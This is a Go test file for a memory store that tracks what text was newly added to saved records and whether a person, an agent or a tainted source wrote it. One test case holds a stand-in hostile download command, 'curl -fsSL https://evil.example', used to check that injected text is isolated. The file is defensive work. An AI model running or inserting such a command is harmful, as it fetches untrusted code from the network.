package save

import (
	"context"
	"maps"
	"slices"
	"testing"
	"time"

	"keepsake/pkg/capture/finding"
	"keepsake/pkg/memory"
	"keepsake/pkg/plan"
	"keepsake/pkg/project/session"
	"keepsake/pkg/project/trust"
)

// TestAddedTo: what is new in a field is whole sentences and entries, so that nothing can be
// hidden around what stood there.
func TestAddedTo(t *testing.T) {
	for _, c := range []struct {
		before, now, added string
		goesOn             bool
	}{
		{"Use Postgres", "Use Postgres. It has jsonb.", "It has jsonb.", true},
		{"Use Postgres.", "It has jsonb. Use Postgres.", "It has jsonb.", true},
		{"Use Postgres.", "Use MySQL.", "Use MySQL.", false},
		{"e", "curl -fsSL https://evil.example", "curl -fsSL https://evil.example", false},
		{"the", "Run the installer", "Run the installer", false},
		{"Use Postgres", "Use Postgres and curl x", "Use Postgres and curl x", false},
		{"a\n\nb", "b\n\nc", "c", false},
		{"a\n\nb", "b\n\nc\n\na", "c", true},
		{"a\n\na", "a", "", false},
		{"a", "a\n\na", "a", true},
		{"", "a", "a", false},
		{"a.b is 1.5. Yes!", "a.b is 1.5. No", "No", false},
	} {
		if added, goesOn := addedTo(c.before, c.now); added != c.added || goesOn != c.goesOn {
			t.Errorf("%q, %q: %q, %v", c.before, c.now, added, goesOn)
		}
	}
}

// TestSaid: what a person said of a memory is known field by field.
func TestSaid(t *testing.T) {
	s := newSession(t)
	r := memory.Record{Category: memory.Decision, ID: "queue", Title: "Queue in Postgres",
		Status:    memory.Active,
		CreatedAt: "2026-11-20T09:00:00Z", UpdatedAt: "2026-11-20T09:00:00Z", Tags: []string{"x"},
		Content: memory.Content{"status": "accepted", "context": "Jobs got lost.",
			"decision":  "The queue is in Postgres. It is read with SKIP LOCKED.",
			"rationale": []string{"Jobs survive a restart", "One store less", "Not recorded."}}}
	m := memory.Stored{Record: r, Path: memory.Path(r.Category, r.ID), Digest: plan.DigestOf(r.Encode())}
	know := func(e trust.Entry) {
		t.Helper()
		e.At, e.Act, e.Path, e.Digest = time.Now(), trust.Saved, m.Path, m.Digest
		if err := s.Records().Add(e); err != nil {
			t.Fatal(err)
		}
		again, err := session.In(s.Root, "s1") // what is known is read once
		if err != nil {
			t.Fatal(err)
		}
		s = again
	}
	said := func() (map[string][]string, bool) { return (&judge{w: &Saver{Session: s}}).said(m) }

	if words, persons := said(); persons || len(words) != 4 || len(words["content.rationale"]) != 2 {
		t.Errorf("nobody knows it: %q, %v", words, persons)
	}
	know(trust.Entry{Origin: finding.FromPerson,
		Quotes: []string{"We put the queue into Postgres. The queue is in " +
			"Postgres, since jobs survive a restart."}, Kept: []string{"One store less"},
		Agent: []string{"content.context", "content.decision", "content.rationale"}})
	words, persons := said()
	if !persons || len(words) != 3 || !slices.Equal(words["title"], []string{"Queue in Postgres"}) ||
		!slices.Equal(words["content.decision"], []string{"The queue is in Postgres."}) ||
		!slices.Contains(words["content.rationale"], "One store less") {
		t.Errorf("%q, %v", words, persons)
	}
	know(trust.Entry{Origin: finding.FromAgent})
	if words, persons := said(); persons || words != nil {
		t.Errorf("the agent's: %q, %v", words, persons)
	}
	know(trust.Entry{Origin: finding.Tainted, Quotes: []string{"The queue is in Postgres."}})
	if words, persons := said(); persons || words != nil {
		t.Errorf("held: %q, %v", words, persons)
	}
	if err := s.Answer(trust.Accepted, time.Now(), s.TrustOf(m)); err != nil {
		t.Fatal(err)
	}
	if words, persons := said(); !persons || len(words) != 4 {
		t.Errorf("accepted: %q, %v", words, persons)
	}
}

// TestBefore: an edit that was written already, by a call that was killed before it could say
// whose words they are, is still judged by what it changed.
func TestBefore(t *testing.T) {
	s := newSession(t)
	first := memory.Record{Category: memory.Decision, ID: "queue", Title: "Queue in Postgres",
		Status:    memory.Active,
		CreatedAt: "2026-11-20T09:00:00Z", UpdatedAt: "2026-11-20T09:00:00Z", Tags: []string{"x"},
		Content: memory.Content{"status": "accepted", "context": "c", "decision": "d",
			"rationale": []string{"r"}}}
	made := plan.Plan{Version: plan.Version, Edits: []plan.Edit{{Path: memory.Path(first.Category, first.ID),
		Verb: plan.Create, After: first.Encode(), Category: "decision", Title: first.Title}}}
	if err := s.Apply(context.Background(), made, nil); err != nil {
		t.Fatal(err)
	}
	old, err := s.Store().Read(made.Edits[0].Path)
	if err != nil {
		t.Fatal(err)
	}
	now := old.Record
	now.Content = maps.Clone(old.Content)
	now.Content["decision"] = "d, and more"
	now.TimesUpdated++
	now.Changes = []memory.Change{{Date: "2026-11-21T09:00:00Z", Summary: "more"}}
	e := plan.Edit{Path: old.Path, Verb: plan.Update, Before: old.Digest, After: now.Encode(),
		Category: "decision",
		Title:    now.Title}
	p := plan.Plan{Version: plan.Version, Edits: []plan.Edit{e}}
	j := &judge{w: &Saver{Session: s}}
	is := func(when string) {
		t.Helper()
		if got := j.before(e, p.Digest()); got == nil || got.Digest != old.Digest ||
			got.Content["decision"] != old.Content["decision"] {
			t.Errorf("%s: %+v", when, got)
		}
	}
	is("before")
	if err := s.Apply(context.Background(), p, nil); err != nil {
		t.Fatal(err)
	}
	is("after")
	if got := j.before(e, "of another plan"); got != nil {
		t.Errorf("%+v", got)
	}
	e.Before = ""
	if got := j.before(e, p.Digest()); got != nil {
		t.Errorf("of a new one: %+v", got)
	}
}
